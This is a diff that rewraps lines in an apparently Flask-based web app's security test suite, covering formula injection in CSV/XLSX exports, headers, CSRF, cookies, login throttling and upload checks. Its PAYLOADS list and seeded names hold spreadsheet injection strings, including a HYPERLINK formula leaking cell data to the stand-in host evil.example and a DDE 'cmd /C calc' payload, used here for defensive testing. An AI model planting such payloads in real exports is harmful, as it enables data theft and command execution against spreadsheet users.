@@ -4,6 +4,7 @@ headers and no inline script on every page, upload size limits, and no formula i
 The pages are found by walking the authorisation matrix's table (test_authorisation_matrix.ENDPOINTS), so new
 routes and new exports are checked without touching this file.
 """
+
 from __future__ import annotations
 
 import csv
@@ -23,8 +24,14 @@ from tests.support.documents import fetch_zip
 
 TEMPLATES = Path(__file__).resolve().parents[2] / "templates"
 MARK = "evil.example"
-PAYLOADS = [f'=HYPERLINK("http://{MARK}/?leak="&A1,"見る")', f"+cmd|' /C calc'!A0 {MARK}", f"-1+1 {MARK}",
-            f"@SUM(1+1) {MARK}", f"\t=1+1 {MARK}", f"＝1+1 {MARK}"]
+PAYLOADS = [
+    f'=HYPERLINK("http://{MARK}/?leak="&A1,"見る")',
+    f"+cmd|' /C calc'!A0 {MARK}",
+    f"-1+1 {MARK}",
+    f"@SUM(1+1) {MARK}",
+    f"\t=1+1 {MARK}",
+    f"＝1+1 {MARK}",
+]
 FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
 
 
@@ -46,11 +53,14 @@ def _hostile(session: Session) -> None:
 def world(request, tmp_path_factory) -> World:
     from tests.security.conftest import _module_database
 
-    app = make_app(_module_database(request, tmp_path_factory),
-                   REPORT_CACHE_DIR=str(tmp_path_factory.mktemp("report-cache")),
-                   NEEDS_UPLOAD_DIR=str(tmp_path_factory.mktemp("uploads")))
-    world = build_world(app, names={"20": f"=HYPERLINK(\"http://{MARK}/\",\"長野県計画\")", "15": f"-新潟県 {MARK}"},
-                        prepare=_hostile)
+    app = make_app(
+        _module_database(request, tmp_path_factory),
+        REPORT_CACHE_DIR=str(tmp_path_factory.mktemp("report-cache")),
+        NEEDS_UPLOAD_DIR=str(tmp_path_factory.mktemp("uploads")),
+    )
+    world = build_world(
+        app, names={"20": f'=HYPERLINK("http://{MARK}/","長野県計画")', "15": f"-新潟県 {MARK}"}, prepare=_hostile
+    )
     app.extensions["security_world"] = world
     yield world
     app.extensions["db_engine"].dispose()
@@ -77,6 +87,7 @@ def crawl(app, user: str):
 
 
 # --- exports ------------------------------------------------------------------------------------------------------
+
 
 def _xlsx_problems(where: str, data: bytes) -> list[str]:
     problems = []
@@ -148,9 +159,15 @@ def test_no_export_lets_user_text_run_as_a_formula(world):
             problems += found
     assert not problems, "\n".join(problems)
     # The exports that exist today were all looked at (the walk finds new ones by itself).
-    for pattern in (r"/needs/export\.csv", r"/needs/export\.xlsx", r"/bodies/export\.csv",
-                    r"/reports/summary\.xlsx", r"/reports/group/.+\.xlsx", r"/reports/member/.+\.xlsx",
-                    r"/reports\.zip"):
+    for pattern in (
+        r"/needs/export\.csv",
+        r"/needs/export\.xlsx",
+        r"/bodies/export\.csv",
+        r"/reports/summary\.xlsx",
+        r"/reports/group/.+\.xlsx",
+        r"/reports/member/.+\.xlsx",
+        r"/reports\.zip",
+    ):
         if any(re.search(pattern, url) for url in scanned) or not _route_exists(world.app, pattern):
             continue
         raise AssertionError(f"no export matching {pattern} was scanned: {scanned}")
@@ -192,7 +209,12 @@ def _header_problems(where: str, response) -> list[str]:
         out.append(f"{where}: framing not denied")
     if h.get("X-Content-Type-Options") != "nosniff":
         out.append(f"{where}: no X-Content-Type-Options: nosniff")
-    if h.get("Referrer-Policy") not in ("same-origin", "no-referrer", "strict-origin", "strict-origin-when-cross-origin"):
+    if h.get("Referrer-Policy") not in (
+        "same-origin",
+        "no-referrer",
+        "strict-origin",
+        "strict-origin-when-cross-origin",
+    ):
         out.append(f"{where}: Referrer-Policy {h.get('Referrer-Policy')!r}")
     return out
 
@@ -201,10 +223,17 @@ def _inline_problems(where: str, response) -> list[str]:
     if response.mimetype != "text/html":
         return []
     html = response.get_data(as_text=True)
-    return [f"{where}: {what}: {m.group(0)[:80]!r}" for what, rx in
-            (("inline script", INLINE_SCRIPT), ("event handler attribute", EVENT_HANDLER),
-             ("style attribute (blocked by style-src 'self')", STYLE_ATTRIBUTE), ("javascript: URL", JS_URL))
-            for m in [rx.search(html)] if m]
+    return [
+        f"{where}: {what}: {m.group(0)[:80]!r}"
+        for what, rx in (
+            ("inline script", INLINE_SCRIPT),
+            ("event handler attribute", EVENT_HANDLER),
+            ("style attribute (blocked by style-src 'self')", STYLE_ATTRIBUTE),
+            ("javascript: URL", JS_URL),
+        )
+        for m in [rx.search(html)]
+        if m
+    ]
 
 
 @pytest.mark.parametrize("user", ["anonymous", "admin", "pref20", "muni202011"])
@@ -237,8 +266,11 @@ def test_templates_have_no_inline_script_or_handlers():
     for path in sorted(TEMPLATES.rglob("*.html")):
         text = path.read_text(encoding="utf-8")
         rel = path.relative_to(TEMPLATES)
-        for what, rx in (("inline <script>", INLINE_SCRIPT), ("event handler attribute", EVENT_HANDLER),
-                         ("javascript: URL", JS_URL)):
+        for what, rx in (
+            ("inline <script>", INLINE_SCRIPT),
+            ("event handler attribute", EVENT_HANDLER),
+            ("javascript: URL", JS_URL),
+        ):
             for m in rx.finditer(text):
                 problems.append(f"{rel}:{text.count(chr(10), 0, m.start()) + 1}: {what}: {m.group(0)[:60]!r}")
         # The PDF templates are rendered by WeasyPrint, not a browser: only web pages must do without style="".
@@ -250,10 +282,12 @@ def test_templates_have_no_inline_script_or_handlers():
 
 # --- CSRF ---------------------------------------------------------------------------------------------------------
 
+
 @pytest.fixture(scope="module")
 def csrf_app(world):
-    app = make_app(world.app.config["DATABASE_URL"], WTF_CSRF_ENABLED=True,
-                   NEEDS_UPLOAD_DIR=world.app.config["NEEDS_UPLOAD_DIR"])
+    app = make_app(
+        world.app.config["DATABASE_URL"], WTF_CSRF_ENABLED=True, NEEDS_UPLOAD_DIR=world.app.config["NEEDS_UPLOAD_DIR"]
+    )
     app.extensions["security_world"] = world
     yield app
     app.extensions["db_engine"].dispose()
@@ -312,6 +346,7 @@ def test_a_valid_token_is_accepted(csrf_app):
 
 # --- cookies, proxies -----------------------------------------------------------------------------------------------
 
+
 def _session_cookie(response) -> str:
     cookies = [v for v in response.headers.getlist("Set-Cookie") if v.startswith("session=")]
     assert cookies, "no session cookie set"
@@ -333,20 +368,24 @@ def test_session_cookie_is_secure_when_configured_or_served_over_https(world, mo
     assert response.headers.get("Strict-Transport-Security")
 
     direct = make_app(url)  # TLS terminated by the WSGI server itself
-    response = direct.test_client().post("/login", base_url="https://planner.example",
-                                         data={"username": "admin", "password": "password-123"})
+    response = direct.test_client().post(
+        "/login", base_url="https://planner.example", data={"username": "admin", "password": "password-123"}
+    )
     assert "Secure" in _session_cookie(response)
 
     proxied = make_app(url, TRUSTED_PROXY=True)  # behind an HTTPS reverse proxy
-    response = proxied.test_client().post("/login", headers={"X-Forwarded-Proto": "https",
-                                                             "X-Forwarded-For": "203.0.113.9"},
-                                          data={"username": "admin", "password": "password-123"})
+    response = proxied.test_client().post(
+        "/login",
+        headers={"X-Forwarded-Proto": "https", "X-Forwarded-For": "203.0.113.9"},
+        data={"username": "admin", "password": "password-123"},
+    )
     assert "Secure" in _session_cookie(response)
     for app in (configured, direct, proxied):
         app.extensions["db_engine"].dispose()
 
 
 # --- login throttle, password hashing ------------------------------------------------------------------------------
+
 
 def _fail(client, username: str, **kw):
     return client.post("/login", data={"username": username, "password": "wrong-password"}, **kw)
@@ -362,8 +401,11 @@ def test_login_is_throttled_per_name_and_address(world):
     blocked = client.post("/login", data={"username": "muni202029", "password": "password-123"}, environ_base=here)
     assert blocked.status_code == 429  # even the right password, once blocked
     assert "しばらく" in blocked.get_data(as_text=True)
-    other = client.post("/login", data={"username": "muni202029", "password": "password-123"},
-                        environ_base={"REMOTE_ADDR": "198.51.100.8"})
+    other = client.post(
+        "/login",
+        data={"username": "muni202029", "password": "password-123"},
+        environ_base={"REMOTE_ADDR": "198.51.100.8"},
+    )
     assert other.status_code == 302  # another office is not locked out by someone else's typing
     with Session(world.engine) as session:
         from planner.db.models import AuditLog
@@ -382,8 +424,12 @@ def test_a_forged_forwarded_for_header_does_not_reset_the_throttle(world):
     for i in range(MAX_FAILURES + 2):
         # The attacker invents a new address each time; the proxy appends the real one (192.0.2.50).
         _fail(client, "pref15", environ_base=proxy, headers={"X-Forwarded-For": f"203.0.113.{i}, 192.0.2.50"})
-    response = client.post("/login", data={"username": "pref15", "password": "password-123"}, environ_base=proxy,
-                           headers={"X-Forwarded-For": "203.0.113.200, 192.0.2.50"})
+    response = client.post(
+        "/login",
+        data={"username": "pref15", "password": "password-123"},
+        environ_base=proxy,
+        headers={"X-Forwarded-For": "203.0.113.200, 192.0.2.50"},
+    )
     assert response.status_code == 429
     app.extensions["db_engine"].dispose()
 
@@ -402,6 +448,7 @@ def test_passwords_are_hashed_with_argon2id_memory_hard_parameters(world):
 
 # --- uploads --------------------------------------------------------------------------------------------------------
 
+
 def test_the_default_upload_limit_is_set():
     from planner.app import create_app
 
@@ -411,8 +458,9 @@ def test_the_default_upload_limit_is_set():
 
 @pytest.mark.parametrize("path", ["/needs/import", "/bodies/import"])
 def test_an_oversized_upload_gets_413_with_a_japanese_page(world, path):
-    app = make_app(world.app.config["DATABASE_URL"], MAX_CONTENT_LENGTH=4096,
-                   NEEDS_UPLOAD_DIR=world.app.config["NEEDS_UPLOAD_DIR"])
+    app = make_app(
+        world.app.config["DATABASE_URL"], MAX_CONTENT_LENGTH=4096, NEEDS_UPLOAD_DIR=world.app.config["NEEDS_UPLOAD_DIR"]
+    )
     if not any(r.rule == path for r in app.url_map.iter_rules()):
         pytest.skip(f"{path} is not installed in this build")
     client = app.test_client()
@@ -434,17 +482,24 @@ UPLOADS = {"/needs/import": "file", "/bodies/import": "file", "/admin/data": "fi
 
 def _shown_problem(html: str) -> str:
     """The text of the page's error box or of the file field's errors ('' when there is none)."""
-    shown = re.search(r'<div class="error-summary".*?</(?:table|ul)>|<ul class="errors" id="files?-errors">.*?</ul>',
-                      html, re.S)
+    shown = re.search(
+        r'<div class="error-summary".*?</(?:table|ul)>|<ul class="errors" id="files?-errors">.*?</ul>', html, re.S
+    )
     return re.sub(r"<[^>]+>", " ", shown.group(0)) if shown else ""
 
 
 @pytest.mark.parametrize("path", list(UPLOADS))
-@pytest.mark.parametrize("name,data,expected", [
-    ("picture.csv", PNG, "PNG 画像"), ("picture.xlsx", PNG, "PNG 画像"), ("report.csv", b"%PDF-1.4\n%...", "PDF"),
-    ("needs.xlsx", ZIP_NOT_XLSX, "Excel（.xlsx）"), ("run.exe", PNG, ".xlsx"),
-    ("blob.csv", bytes(range(256)) * 8, "CSV（.csv）でも Excel（.xlsx）でもない"),
-])
+@pytest.mark.parametrize(
+    "name,data,expected",
+    [
+        ("picture.csv", PNG, "PNG 画像"),
+        ("picture.xlsx", PNG, "PNG 画像"),
+        ("report.csv", b"%PDF-1.4\n%...", "PDF"),
+        ("needs.xlsx", ZIP_NOT_XLSX, "Excel（.xlsx）"),
+        ("run.exe", PNG, ".xlsx"),
+        ("blob.csv", bytes(range(256)) * 8, "CSV（.csv）でも Excel（.xlsx）でもない"),
+    ],
+)
 def test_a_file_of_the_wrong_type_is_refused_with_422_and_the_reason(world, path, name, data, expected):
     if not any(r.rule == path for r in world.app.url_map.iter_rules()):
         pytest.skip(f"{path} is not installed in this build")
@@ -474,11 +529,17 @@ def test_an_upload_without_a_file_is_422(world, path):
 def test_a_flags_file_with_bad_rows_is_422_and_a_good_one_200(world):
     client = world.app.test_client()
     login(client, "admin")
-    bad = client.post("/bodies/import", data={"file": (io.BytesIO(b"code,disadvantaged\n999999,1\n"), "flags.csv")},
-                      content_type="multipart/form-data")
+    bad = client.post(
+        "/bodies/import",
+        data={"file": (io.BytesIO(b"code,disadvantaged\n999999,1\n"), "flags.csv")},
+        content_type="multipart/form-data",
+    )
     assert bad.status_code == 422 and "999999" in _shown_problem(bad.get_data(as_text=True))
-    good = client.post("/bodies/import", data={"file": (io.BytesIO(b"code,disadvantaged\n202011,0\n"), "flags.csv")},
-                       content_type="multipart/form-data")
+    good = client.post(
+        "/bodies/import",
+        data={"file": (io.BytesIO(b"code,disadvantaged\n202011,0\n"), "flags.csv")},
+        content_type="multipart/form-data",
+    )
     assert good.status_code == 200 and not _shown_problem(good.get_data(as_text=True))
 
 
@@ -486,12 +547,14 @@ def test_a_real_encoding_problem_is_still_reported_as_one(world):
     client = world.app.test_client()
     login(client, "admin")
     utf16 = "code,disadvantaged\n202011,1\n".encode("utf-16")
-    response = client.post("/bodies/import", data={"file": (io.BytesIO(utf16), "flags.csv")},
-                           content_type="multipart/form-data")
+    response = client.post(
+        "/bodies/import", data={"file": (io.BytesIO(utf16), "flags.csv")}, content_type="multipart/form-data"
+    )
     assert response.status_code == 422 and "UTF-16" in _shown_problem(response.get_data(as_text=True))
 
 
 # --- sessions end at logout, password reset and deactivation --------------------------------------------------------
+
 
 def _scratch_user(world, role: str = "municipality") -> tuple[str, int]:
     """A user of this test alone: ending its sessions cannot sign out the clients other tests keep."""
@@ -639,9 +702,13 @@ def test_an_idle_session_expires_and_a_busy_one_ends_at_the_cap(world, monkeypat
 
 # --- login throttle across names and across addresses ---------------------------------------------------------------
 
+
 def _blocked_message(response) -> str:
-    return re.sub(r"<[^>]+>", "", re.search(r'class="flash flash-error"[^>]*>(.*?)</', response.get_data(as_text=True),
-                                            re.S).group(1)).strip()
+    return re.sub(
+        r"<[^>]+>",
+        "",
+        re.search(r'class="flash flash-error"[^>]*>(.*?)</', response.get_data(as_text=True), re.S).group(1),
+    ).strip()
 
 
 def _audit(world, action: str, entity_id: str):
@@ -662,8 +729,9 @@ def test_password_spraying_from_one_address_is_throttled_across_user_names(world
     assert blocked.status_code == 429 and "しばらく" in _blocked_message(blocked)
     entries = _audit(world, "login_blocked", name)
     assert entries and "ip=192.0.2.101" in entries[-1].detail and "制限=address" in entries[-1].detail
-    elsewhere = client.post("/login", data={"username": name, "password": "password-123"},
-                            environ_base={"REMOTE_ADDR": "192.0.2.102"})
+    elsewhere = client.post(
+        "/login", data={"username": name, "password": "password-123"}, environ_base={"REMOTE_ADDR": "192.0.2.102"}
+    )
     assert elsewhere.status_code == 302  # the account itself is not locked
     app.extensions["db_engine"].dispose()
 
@@ -674,12 +742,14 @@ def test_distributed_guessing_of_one_account_is_throttled_across_addresses(world
     client = app.test_client()
     for i in range(4):  # one guess per address: the per-address limits never trigger
         assert _fail(client, name, environ_base={"REMOTE_ADDR": f"203.0.113.{150 + i}"}).status_code == 200
-    blocked = client.post("/login", data={"username": name, "password": "password-123"},
-                          environ_base={"REMOTE_ADDR": "203.0.113.160"})
+    blocked = client.post(
+        "/login", data={"username": name, "password": "password-123"}, environ_base={"REMOTE_ADDR": "203.0.113.160"}
+    )
     assert blocked.status_code == 429
     assert "制限=account" in _audit(world, "login_blocked", name)[-1].detail
-    other = client.post("/login", data={"username": "pref20", "password": "password-123"},
-                        environ_base={"REMOTE_ADDR": "203.0.113.150"})
+    other = client.post(
+        "/login", data={"username": "pref20", "password": "password-123"}, environ_base={"REMOTE_ADDR": "203.0.113.150"}
+    )
     assert other.status_code == 302  # the guessers' addresses still reach other accounts
     app.extensions["db_engine"].dispose()
 
@@ -687,8 +757,11 @@ def test_distributed_guessing_of_one_account_is_throttled_across_addresses(world
 def test_the_blocked_message_is_the_same_whichever_limit_refused(world):
     from planner.services.login_throttle import MAX_FAILURES
 
-    app = make_app(world.app.config["DATABASE_URL"], LOGIN_MAX_FAILURES_PER_ADDRESS=MAX_FAILURES + 1,
-                   LOGIN_MAX_FAILURES_PER_ACCOUNT=MAX_FAILURES)
+    app = make_app(
+        world.app.config["DATABASE_URL"],
+        LOGIN_MAX_FAILURES_PER_ADDRESS=MAX_FAILURES + 1,
+        LOGIN_MAX_FAILURES_PER_ACCOUNT=MAX_FAILURES,
+    )
     client = app.test_client()
     by_name, _ = _scratch_user(world)
     here = {"REMOTE_ADDR": "192.0.2.120"}
@@ -714,12 +787,26 @@ def test_failures_older_than_the_window_do_not_count(world):
     limits = Limits(per_name_and_address=3, per_address=3, per_account=3, window=timedelta(minutes=15))
     with Session(world.engine) as session:
         for i in range(5):
-            session.add(AuditLog(action="login_failed", entity="user", entity_id="old-guesses",
-                                 detail=failure_detail("192.0.2.130"), at=utcnow() - timedelta(minutes=16 + i)))
+            session.add(
+                AuditLog(
+                    action="login_failed",
+                    entity="user",
+                    entity_id="old-guesses",
+                    detail=failure_detail("192.0.2.130"),
+                    at=utcnow() - timedelta(minutes=16 + i),
+                )
+            )
         session.flush()
         assert block_reason(session, "old-guesses", "192.0.2.130", limits) is None
-        session.add(AuditLog(action="login_failed", entity="user", entity_id="old-guesses",
-                             detail=failure_detail("192.0.2.131"), at=utcnow()))
+        session.add(
+            AuditLog(
+                action="login_failed",
+                entity="user",
+                entity_id="old-guesses",
+                detail=failure_detail("192.0.2.131"),
+                at=utcnow(),
+            )
+        )
         session.flush()
         assert block_reason(session, "old-guesses", "192.0.2.132", limits) is None
         session.rollback()
@@ -734,6 +821,7 @@ def test_throttle_defaults_are_ordered_and_configurable():
     assert defaults == Limits()
     # A person mistypes a few times; spraying and distributed guessing need more room before they lock others out.
     assert 0 < defaults.per_name_and_address < defaults.per_address <= defaults.per_account
-    custom = Limits.from_config({"LOGIN_MAX_FAILURES": 3, "LOGIN_MAX_FAILURES_PER_ADDRESS": 0,
-                                 "LOGIN_THROTTLE_MINUTES": 30})
+    custom = Limits.from_config(
+        {"LOGIN_MAX_FAILURES": 3, "LOGIN_MAX_FAILURES_PER_ADDRESS": 0, "LOGIN_THROTTLE_MINUTES": 30}
+    )
     assert (custom.per_name_and_address, custom.per_address, custom.window) == (3, 0, timedelta(minutes=30))
